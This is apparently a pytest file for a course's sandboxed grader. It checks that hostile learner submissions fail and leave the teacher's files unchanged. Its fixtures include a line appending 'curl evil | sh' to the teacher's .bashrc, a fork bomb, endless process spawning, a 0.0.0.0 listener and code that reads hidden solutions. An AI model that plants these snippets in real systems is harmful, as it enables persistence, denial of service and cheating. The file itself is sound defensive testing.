"""``disttutor grade`` as a cheating or hostile learner would try it: seven submissions (read a
solution, import the exercise's reference twice over, read another learner's notebook, write into
the teacher's home, start processes without end, print 100 MB, listen on 0.0.0.0), each graded FAIL
with a line that names what it tried, the teacher's files byte for byte the same afterwards, an
honest learner graded "pass" beside them; then the sandbox's own walls without the in-process guard
(a process limit, memory, CPU time, a listener nobody outside can reach); the guard in a notebook's
check; and no sandbox: a refusal to grade, or a loud warning."""
from __future__ import annotations

import hashlib
import os
import signal
import socket
import subprocess
import sys
import tempfile

import pytest

from disttutor.checks import exercise
from disttutor.checks.guard import static_problem
from disttutor.checks.memory import check_zero_memory
from disttutor.course import cli, grade as grade_mod, isolated, sandbox
from disttutor.course.grade import grade

from test_exercises import ROOT
from test_grade import notebook, sol

NO_SANDBOX = sandbox.unavailable()
needs_sandbox = pytest.mark.skipif(bool(NO_SANDBOX) and not os.environ.get("DISTTUTOR_REQUIRE_SANDBOX"),
                                   reason=f"no sandbox here: {NO_SANDBOX}")
SIG = "def zero_memory(n_params, bytes_per_param, world, stage):\n"


def hostile(home: str, other: str) -> dict[str, tuple[str, str, str]]:
    """learner -> (exercise, code, what the grader must say). Each one's code, run as the teacher,
    would change or read something the test compares afterwards."""
    return {
        "reads_solution": ("1.1", SIG + (
            "    import os, disttutor, importlib.util\n"
            "    root = os.path.dirname(os.path.dirname(disttutor.__file__))\n"
            "    path = os.path.join(root, 'solutions', 'ex1_1_zero_memory.py')\n"
            "    spec = importlib.util.spec_from_file_location('answer', path)\n"
            "    m = importlib.util.module_from_spec(spec)\n"
            "    spec.loader.exec_module(m)\n"
            "    return m.zero_memory(n_params, bytes_per_param, world, stage)\n"),
            "your code reads solutions/ex1_1_zero_memory.py: write it yourself"),
        "imports_reference": ("2.1", "import disttutor\n\ndef ring_all_reduce(tensor):\n"
                                     "    return disttutor.scratch.allreduce.ring_all_reduce(tensor)\n",
                              "your code calls disttutor.scratch.allreduce: write it yourself"),
        "imports_reference_late": ("2.1", "def ring_all_reduce(tensor):\n    import importlib\n"
                                          "    ref = importlib.import_module('disttutor.scratch.' + 'allreduce')\n"
                                          "    return ref.ring_all_reduce(tensor)\n",
                                   "your code calls disttutor.scratch.allreduce: write it yourself"),
        "reads_other_learner": ("1.1", SIG + f"    return eval(open({other!r}).read())\n",
                                f"your code opens {other}: outside its sandbox"),
        "writes_home": ("1.1", SIG + f"    with open({home + '/.bashrc'!r}, 'a') as f:\n"
                                     "        f.write('curl evil | sh\\n')\n",
                        f"your code writes {home}/.bashrc: outside its sandbox"),
        "spawns_forever": ("1.1", SIG + "    import subprocess\n    while True:\n"
                                        "        subprocess.Popen(['sleep', '600'])\n",
                           "your code starts a process (subprocess.Popen ['sleep', '600'])"),
        "prints_100mb": ("1.1", SIG + "    for _ in range(100):\n        print('x' * (1 << 20))\n",
                         "your code printed 32 MiB or more, the sandbox's limit on output"),
        "listens": ("1.1", SIG + "    import socket\n    s = socket.socket()\n"
                                 "    s.bind(('0.0.0.0', 0))\n    s.listen()\n",
                    "your code opens a socket on 0.0.0.0:0: a submission may listen on loopback (127.0.0.1) only"),
    }


def digest(*folders: str) -> dict[str, str]:
    """Every file under ``folders`` (bytecode caches aside: the grader's own imports may write them)."""
    out = {}
    for top in folders:
        for d, dirs, names in os.walk(top):
            dirs[:] = [x for x in dirs if x != "__pycache__"]
            for n in names:
                p = os.path.join(d, n)
                with open(p, "rb") as f:
                    out[p] = hashlib.sha256(f.read()).hexdigest()
    return out


@needs_sandbox
@pytest.mark.slow
@pytest.mark.timeout(300)
def test_hostile_submissions_fail_safely(tmp_path, no_leftovers):
    home = tmp_path / "teacher_home"
    home.mkdir()
    (home / ".bashrc").write_text("# the teacher's own\n")
    d = tmp_path / "class"
    (d / "ada").mkdir(parents=True)
    notebook(d / "ada" / "01_why_distributed.ipynb", [sol("1.1")])  # honest: graded beside them
    subs = hostile(str(home), str(d / "ada" / "01_why_distributed.ipynb"))
    for name, (ex, code, _) in subs.items():
        (d / name).mkdir()
        notebook(d / name / f"{int(ex.split('.')[0]):02d}_exercise.ipynb", [code])
    before = digest(str(home), str(d), os.path.join(ROOT, "solutions"), os.path.join(ROOT, "disttutor"))
    results, left = grade([str(d)], ["1.1", "2.1"], timeout=120, jobs=2)
    got = {(r.learner, r.exercise): r for r in results}
    assert left == []
    assert got["ada", "1.1"].status == "pass", got["ada", "1.1"]
    for name, (ex, _, says) in subs.items():
        r = got[name, ex]
        assert r.status == "fail" and r.message.startswith(says), (name, r)
    assert got["imports_reference", "2.1"].seconds == 0.0  # found in the source: no process started
    assert digest(str(home), str(d), os.path.join(ROOT, "solutions"), os.path.join(ROOT, "disttutor")) == before
    print("\n" + "\n".join(f"{n}: FAIL: {got[n, ex].message}" for n, (ex, _, _) in subs.items()))


def _in_sandbox(tmp_path, code: str, limits=sandbox.Limits()):
    """Run ``python -c code`` in the sandbox, no guard: only its walls. (Popen, box)."""
    d = tempfile.mkdtemp(dir=tmp_path)
    prefix, env, preexec, box = isolated.prepare(d, dict(os.environ), limits=limits)
    start = "import os\nfrom disttutor.course.sandbox import become\nbecome(os.environ.get('DISTTUTOR_SANDBOX_UID'))\n"
    return subprocess.Popen([*prefix, sys.executable, "-c", start + code], env=env, cwd=box, stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=preexec,
                            start_new_session=True), box


@needs_sandbox
@pytest.mark.slow
@pytest.mark.timeout(120)
def test_the_sandbox_walls_without_the_guard(tmp_path, no_leftovers):
    # processes without end: the limit stops them (threads count too), and they all end with the check
    p, _ = _in_sandbox(tmp_path, "import time\nn = 0\ntry:\n    while True:\n        if os.fork() == 0:\n"
                                 "            time.sleep(60)\n            os._exit(0)\n        n += 1\n"
                                 "except OSError as e:\n    print(n, type(e).__name__)\n",
                       sandbox.Limits(processes=40))
    out, err = p.communicate(timeout=60)
    n, what = out.split()
    assert 0 < int(n) < 40 and what == "BlockingIOError", out + err
    # memory and CPU time per process
    p, _ = _in_sandbox(tmp_path, "try:\n    bytearray(3 << 30)\nexcept MemoryError:\n    print('MemoryError')\n",
                       sandbox.Limits(memory_bytes=1 << 30))
    assert p.communicate(timeout=60)[0].strip() == "MemoryError"
    p, _ = _in_sandbox(tmp_path, "while True:\n    pass\n", sandbox.Limits(cpu_seconds=1))
    p.communicate(timeout=60)
    assert sandbox.killed_by(p.returncode, signal.SIGXCPU), p.returncode
    # a listener on every address: the sandbox has loopback only, and its own; nobody outside reaches it
    p, _ = _in_sandbox(tmp_path, "import socket, sys\ns = socket.socket()\ns.bind(('0.0.0.0', 0))\ns.listen()\n"
                                 "c = socket.create_connection(('127.0.0.1', s.getsockname()[1]))\n"
                                 "print(s.getsockname()[1], [n for _, n in socket.if_nameindex()], flush=True)\n"
                                 "sys.stdin.read()\n")
    line = p.stdout.readline().split(maxsplit=1)
    port, interfaces = int(line[0]), line[1].strip()
    try:
        assert interfaces == "['lo']"
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection(("127.0.0.1", port), timeout=5)
    finally:
        p.kill()
        p.communicate()
    # nothing of the course's folder but disttutor/ (no solutions/, no .git), none of the teacher's files;
    # and the Python that runs the check, where it lives in that folder (course.py's .venv, as in CI)
    python = sorted({os.path.relpath(r, ROOT).split(os.sep)[0] for r in sandbox._python_roots()
                     if r.startswith(ROOT + os.sep)})
    assert all(not name.startswith(("solutions", "disttutor", "chapters")) for name in python), python
    p, _ = _in_sandbox(tmp_path, f"print(sorted(os.listdir({ROOT!r})), os.path.exists({str(tmp_path)!r}))\n")
    assert p.communicate(timeout=60)[0].strip() == f"{sorted(['disttutor', *python])} False"


def test_a_notebook_check_refuses_the_answers_too():
    assert static_problem("from disttutor.scratch.ddp import NaiveDDP\n", "4.1") == \
        "your code calls disttutor.scratch.ddp: write it yourself"
    assert static_problem("from disttutor.scratch.ddp import BucketedDDP\n", "8.1") is None  # 8.1 builds on it
    assert static_problem("from disttutor.scratch.buckets import plan_buckets\n", "4.2") is None  # a given helper
    code = hostile("/nowhere", "/nowhere")["reads_solution"][1]
    catches = code.replace("    spec =", "    try:\n        open(path)\n    except OSError:\n        pass\n    spec =")
    for c in (code, catches):  # catching the refusal does not help
        res = check_zero_memory(c)
        assert not res.passed and res.problems == ["your code reads solutions/ex1_1_zero_memory.py: write it yourself"]
    assert check_zero_memory(sol("1.1")).passed  # and the guard is gone after the check
    assert exercise("2.1").references == ("disttutor.scratch.allreduce",)


def test_no_sandbox_no_grading_unless_told(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(grade_mod, "unavailable", lambda: "bubblewrap runs on Linux only (this is Darwin)")
    notebook(tmp_path / "ben_01.ipynb", [SIG + "    return {}\n"])
    args = ["grade", str(tmp_path / "ben_01.ipynb"), "--exercises", "1.1", "--csv", str(tmp_path / "g.csv")]
    assert cli.main(args) == 2
    err = capsys.readouterr().err
    assert "cannot sandbox the learners' code: bubblewrap runs on Linux only" in err and "--unsafe-no-sandbox" in err
    assert cli.main([*args[:2], "--exercises", "9.1", "--unsafe-no-sandbox", "--csv", str(tmp_path / "g.csv")]) == 0
    assert "The learners' code runs WITH YOUR RIGHTS" in capsys.readouterr().err
